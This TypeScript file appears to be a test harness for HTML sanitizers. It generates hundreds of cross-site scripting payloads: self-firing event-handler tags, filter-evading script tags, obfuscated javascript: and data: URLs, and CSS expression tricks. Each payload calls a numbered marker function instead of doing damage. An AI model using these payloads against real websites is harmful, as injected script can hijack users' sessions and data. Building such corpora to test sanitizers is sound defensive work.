import { combine, HIT } from "./hit.ts";
import { nested, wrapped } from "./wrapped.ts";

/** Elements that fire an event by themselves, each with the attributes that it needs. */
const REPORTERS = [
  "img onerror src=x:",
  "svg onload",
  "body onload",
  "details open ontoggle",
  "video onerror src=x:",
  "style onload",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "iframe onload",
  "audio onerror src=x:",
  "object onerror data=x:",
  "embed onerror src=x:",
  "marquee onstart",
  "link rel=stylesheet href=x: onerror",
  "script src=x: onerror",
  "a href=# autofocus onfocus",
  "div tabindex=0 autofocus onfocus",
  "svg><animate onbegin",
  "svg><set onbegin",
  "input type=image src=x: onerror",
  "p contenteditable autofocus onfocus",
  "keygen autofocus onfocus",
  "source onerror src=x:",
  "image src=x: onerror",
  "frameset onload",
];
const QUOTES = ['"', "'", "", "`"];
const GAPS = [" ", "/", "\t", "\n", "\f", "\r", " /", "\u00a0"];

/** Writes `img onerror src=x:` as a tag, in one of the notations that browsers accept. */
function reporter(spec: string, gap: string, quote: string): string {
  const parts = spec.split(" ").map((word) => (/\bon\w+$/.test(word) ? `${word}=${quote}${HIT}${quote}` : word));
  return `<${parts.join(gap)}>`;
}
const reporters = REPORTERS.flatMap((spec) => combine(GAPS, QUOTES, (gap, quote) => reporter(spec, gap, quote)));
const shouted = REPORTERS.map((spec) =>
  reporter(
    spec.replace(/\bon\w+|^\w+/g, (word) => word.toUpperCase()),
    " ",
    '"',
  ),
);

const SCRIPTS = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script/x>${HIT}</script >`,
  `<script\n>${HIT}</script\n>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script>${HIT}`,
  `<<script>${HIT}//<</script>`,
  `</p><script>${HIT}</script>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><script>top.hit&#40;ID&#41;</script>`,
  `<math><script>${HIT}</script></math>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<svg><script href="data:,${HIT}"/>`,
  `<script type=module>${HIT}</script>`,
  `<svg><script xlink:href="data:,${HIT}"></script>`,
  `<script src=data:;base64,dG9wLmhpdChJRCk=></script>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><script>${HIT}</script>">`,
  `<iframe srcdoc="<script>${HIT}</script>">`,
  `<iframe srcdoc="&lt;script&gt;${HIT}&lt;/script&gt;">`,
  `<object data="data:text/html,<script>${HIT}</script>">`,
  `<embed src="data:text/html,<script>${HIT}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<base href="javascript:${HIT}//"><a href=/>x</a>`,
];

const PROTOCOLS = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\x01javascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#0000106avascript:",
  "javascript&colon;",
  "javascript&#58;",
  "java&Tab;script:",
  "java&NewLine;script:",
  "javascript://x%0a",
  "javascript:/**/",
  "vbscript:",
  "data:text/html,<script>HITS</script>",
  "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KElEKTwvc2NyaXB0Pg==",
  "feed:javascript:",
  "view-source:javascript:",
  "blob:javascript:",
  "jar:javascript:",
  "\u2028javascript:",
  "\ufeffjavascript:",
  "ｊavascript:",
];
const LINKS = [
  "<a href=URL>x</a>",
  "<a xlink:href=URL>x</a>",
  "<area href=URL>",
  "<form action=URL><button>x</button></form>",
  "<form><button formaction=URL>x</button></form>",
  "<form><input type=submit formaction=URL></form>",
  "<iframe src=URL>",
  "<object data=URL>",
  "<embed src=URL>",
  "<svg><a href=URL><text y=9>x</text></a></svg>",
  "<link rel=import href=URL>",
  "<svg><a xlink:href=URL><text y=9>x</text></a></svg>",
  "<math href=URL><mtext>x</mtext></math>",
  "<img src=URL>",
  "<svg><use href=URL></use></svg>",
  "<svg><image href=URL></image></svg>",
  "<body background=URL>",
  "<video poster=URL>",
  "<svg><a><animate attributeName=href values=URL /><text y=9>x</text></a></svg>",
  "<frameset><frame src=URL></frameset>",
  "<svg><a><set attributeName=href to=URL /><text y=9>x</text></a></svg>",
  "<math><maction actiontype=statusline xlink:href=URL>x",
];
const links = combine(LINKS, PROTOCOLS, (link, protocol) => {
  const address = protocol.includes("data:") ? protocol.replace("HITS", HIT) : `${protocol}${HIT}`;
  return link.replace("URL", `"${address}"`);
});

const STYLES = [
  `expression(${HIT})`,
  `url(javascript:${HIT})`,
  `url("javascript:${HIT}")`,
  `u\\72l(javascript:${HIT})`,
  `image-set("javascript:${HIT}" 1x)`,
  "url(x:)}@keyframes k{}",
  `-moz-binding:url(javascript:${HIT})`,
  `behavior:url(javascript:${HIT})`,
  `ex/**/pression(${HIT})`,
];
const STYLED = [
  '<p style="background:CSS">x</p>',
  '<p style="width:CSS">x</p>',
  "<style>p{background:CSS}</style><p>x</p>",
  "<style>@import CSS;</style>",
  "<svg><style>*{fill:CSS}</style></svg>",
  "<table background='CSS'><tr><td>x</table>",
  "<link rel=stylesheet href='data:text/css,p{background:CSS}'>",
];
const styled = combine(STYLED, STYLES, (html, css) => html.replace("CSS", css.replaceAll('"', "&quot;")));
const animated = [
  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationstart=${HIT}>x</p>`,
  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationend=${HIT}>x</p>`,
  `<style>p{transition:opacity 1ms}</style><p style="opacity:0" ontransitionend=${HIT}>x</p>`,
];

/** All distinct payloads, each with its number in it. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...SCRIPTS, ...reporters, ...shouted, ...links, ...wrapped, ...nested, ...styled, ...animated]),
].map((html, index) => html.replaceAll("top.hit(ID)", `top.hit(${index})`).replaceAll("ID&#41;", `${index}&#41;`));

/** About this many payloads, of all kinds. */
export const somePayloads = (count: number): readonly string[] =>
  PAYLOADS.filter((_, index) => index % Math.ceil(PAYLOADS.length / count) === 0);
